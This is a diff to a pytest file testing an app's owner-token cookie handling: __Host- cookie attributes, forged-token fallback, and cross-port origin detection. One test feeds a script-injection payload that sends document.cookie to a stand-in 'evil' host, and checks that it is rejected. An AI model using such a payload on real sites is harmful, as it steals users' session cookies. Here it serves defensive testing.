@@ -74,8 +74,35 @@ def test_only_the_tokens_hash_may_change_a_run(tmp_path):
 def test_the_cookie_script_keeps_the_token_a_year_for_this_site_only():
     token = owner.new_token()
     script = owner.cookie_script(token)
-    assert f"{owner.COOKIE}={token};" in script
-    assert "max-age=31536000" in script and "path=/" in script and "SameSite=Strict" in script
-    assert "'; Secure'" in script and "location.protocol === 'https:'" in script  # Secure on https
+    https, http = script.split("} else {")
+    assert "location.protocol === 'https:'" in https
+    # over https: the __Host- cookie, which a browser keeps for this exact host only (Secure, path=/, no Domain)
+    assert f"'{owner.HOST_COOKIE}={token}; max-age=31536000; path=/; SameSite=Strict; Secure'" in https
+    assert f"'{owner.COOKIE}=; max-age=0; path=/" in https  # the plain cookie of before goes
+    assert f"'{owner.COOKIE}={token}; max-age=31536000; path=/; SameSite=Strict'" in http
+    assert "domain" not in script.lower() and owner.HOST_COOKIE == "__Host-rnnviz_owner"
     with pytest.raises(ValueError):
         owner.cookie_script("x'; document.location='http://evil/?' + document.cookie; '")
+
+
+def test_the_host_cookie_is_read_first_and_the_plain_cookie_of_before_still_owns_its_runs():
+    kept, older = owner.new_token(), owner.new_token()
+    assert owner.browser_token({owner.COOKIE: older}) == older  # http, or set before __Host- existed
+    assert owner.browser_token({owner.HOST_COOKIE: kept, owner.COOKIE: older}) == kept
+    assert owner.browser_token({owner.HOST_COOKIE: "forged!", owner.COOKIE: older}) == older
+    assert owner.browser_token({owner.COOKIE: "2|00000000|x|1795976772"}) is None and owner.browser_token({}) is None
+    assert owner.cookie_name("https://school.example") == owner.HOST_COOKIE
+    assert owner.cookie_name("http://school.example:8501") == owner.cookie_name(None) == owner.COOKIE
+
+
+@pytest.mark.parametrize(("origin", "host", "foreign"), [
+    ("http://school.example:8000", "school.example:8501", True),  # another port of the app's host
+    ("http://127.0.0.1:8000", "127.0.0.1:8501", True),
+    ("https://school.example:8443", "school.example", True),
+    ("http://school.example:8501", "school.example:8501", False),  # the app's own page
+    ("https://School.Example", "school.example", False),
+    ("https://rnnviz.example", "127.0.0.1:8501", False),  # a proxy that rewrites Host: Streamlit's check decides
+    (None, "school.example:8501", False),  # no browser page (no Origin): nothing to compare
+])
+def test_a_session_opened_by_a_page_on_another_port_of_the_host_is_told_apart(origin, host, foreign):
+    assert owner.from_another_origin(origin, host) is foreign
